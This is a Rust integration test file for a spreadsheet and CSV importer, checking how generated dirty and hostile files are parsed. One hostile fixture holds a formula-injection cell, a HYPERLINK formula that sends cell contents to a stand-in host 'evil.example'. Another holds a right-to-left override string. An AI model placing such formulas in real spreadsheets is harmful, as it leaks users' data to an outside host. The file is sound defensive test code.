//! The generated files of `testdata/gen.py`: what their lists say about encoding, delimiter,
//! records and lines is what is read.

use std::path::PathBuf;
use std::sync::OnceLock;

use custodia_core::import::table::SourceCell;
use serde_json::Value;

use crate::support::{folder, notice, python, read_file, refusal};

fn generated() -> &'static PathBuf {
    static FOLDER: OnceLock<PathBuf> = OnceLock::new();
    FOLDER.get_or_init(|| {
        let folder = folder("generated");
        let arguments = ["--out", ".", "--assets", "2500", "--dirty", "--quiet"];
        python("gen.py", &arguments, &folder);
        folder
    })
}

#[test]
fn dirty_files_are_read_as_their_lists_say() {
    let names = [
        "assets_dirty_utf8.csv",
        "assets_dirty_utf8bom.csv",
        "assets_dirty_cp1252_semicolon.csv",
        "assets_dirty_utf16le_tab.txt",
    ];
    for name in names {
        let path = generated().join("dirty").join(name);
        let list = std::fs::read(path.with_file_name(format!("{name}.issues.json"))).unwrap();
        let list: Value = serde_json::from_slice(&list).unwrap();
        let table = read_file(&path).unwrap_or_else(|e| panic!("{name}: {e:?}"));
        let encoding = match list["encoding"].as_str().unwrap() {
            "utf-8 with BOM" => "utf-8-bom",
            "utf-16le with BOM" => "utf-16le",
            "cp1252" => "windows-1252",
            other => other,
        };
        assert_eq!(table.format.encoding, encoding, "{name}");
        assert_eq!(table.format.delimiter, list["delimiter"].as_str().unwrap(), "{name}");
        assert_eq!(table.rows.len() as u64, list["records"].as_u64().unwrap(), "{name}");
        assert_eq!(table.notices, [], "{name}");
        let mut checked = 0;
        for issue in ["invalid", "recoverable"].iter().flat_map(|k| list[k].as_array().unwrap()) {
            let record = issue["record"].as_u64().unwrap();
            let row = &table.rows[usize::try_from(record).unwrap() - 1];
            assert_eq!(u64::from(row.record), record, "{name}");
            assert_eq!(u64::from(row.line), issue["line"].as_u64().unwrap(), "{name}: {issue}");
            assert_eq!(row.cells[0].text(), issue["asset_tag"].as_str().unwrap(), "{name}");
            if let Some(column) = issue["column"].as_str() {
                let at = table.headers.iter().position(|h| h == column).unwrap();
                assert_eq!(row.cells[at].text(), issue["value"].as_str().unwrap(), "{issue}");
            }
            let odd = row.cells.len() != table.headers.len();
            let code = issue["code"].as_str().unwrap();
            assert_eq!(odd, matches!(code, "too_few_fields" | "too_many_fields"), "{issue}");
            checked += 1;
        }
        assert!(checked > 50, "{name}: only {checked} issues listed");
    }
}

#[test]
fn hostile_text_files_end_in_a_clear_error_or_a_clean_table() {
    let hostile = generated().join("dirty/hostile");
    let open = |name: &str| read_file(&hostile.join(name));
    assert_eq!(refusal(open("empty.csv")), ("empty".into(), 0));
    assert_eq!(refusal(open("unterminated_quote.csv")), ("unterminated-quote".into(), 2));
    assert_eq!(refusal(open("huge_cell.csv")), ("cell-too-long".into(), 2));
    let header_only = open("header_only.csv").unwrap();
    assert_eq!((header_only.headers.len(), header_only.rows.len()), (7, 0));
    let nul = open("nul_bytes.csv").unwrap();
    assert_eq!((nul.rows[1].cells[1].text(), notice(&nul, "nul-removed")), ("ab", 1));
    let repeated = open("duplicate_header.csv").unwrap();
    assert_eq!(notice(&repeated, "duplicate-header"), 1);
    let formula = open("formula_injection.csv").unwrap();
    assert_eq!(
        formula.rows[0].cells[1].text(),
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(formula.rows[1].cells[2].text(), "+49 89 123");
    let lone = open("lone_cr.csv").unwrap();
    assert_eq!((lone.rows.len(), lone.rows[0].line, notice(&lone, "lone-cr")), (1, 2, 2));
    let invalid = open("invalid_utf8.csv").unwrap();
    assert_eq!(invalid.format.encoding, "windows-1252");
    assert_eq!(invalid.rows[0].cells[1].text(), "café");
    let bidi = open("rtl_and_zero_width.csv").unwrap();
    assert_eq!(bidi.rows[0].cells[1].text(), "\u{202e}evil\u{202c}");
    let listed = std::fs::read(hostile.join("README.json")).unwrap();
    let listed: Value = serde_json::from_slice(&listed).unwrap();
    assert_eq!(listed.as_object().unwrap().len(), 10, "a hostile file without a test");
}

#[test]
fn the_workbook_holds_what_the_text_file_holds() {
    let text = read_file(&generated().join("assets.csv")).unwrap();
    let book = read_file(&generated().join("assets.xlsx")).unwrap();
    assert_eq!(book.headers, text.headers);
    assert_eq!((book.rows.len(), book.notices.as_slice()), (text.rows.len(), [].as_slice()));
    let (mut days, mut numbers) = (0, 0);
    for (typed, plain) in book.rows.iter().zip(&text.rows) {
        assert_eq!(typed.record, plain.record);
        for (cell, expected) in typed.cells.iter().zip(&plain.cells) {
            match cell {
                SourceCell::Number { text, lossy } => {
                    numbers += 1;
                    let written = expected.text();
                    let shortest = match written.contains('.') {
                        true => written.trim_end_matches('0').trim_end_matches('.'),
                        false => written,
                    };
                    assert_eq!((text.as_str(), *lossy), (shortest, false));
                }
                SourceCell::Date(day) => {
                    days += 1;
                    assert_eq!(day, expected.text());
                }
                other => assert_eq!(other.text(), expected.text()),
            }
        }
    }
    assert!(days > 5_000 && numbers > 5_000, "{days} days, {numbers} numbers");
}
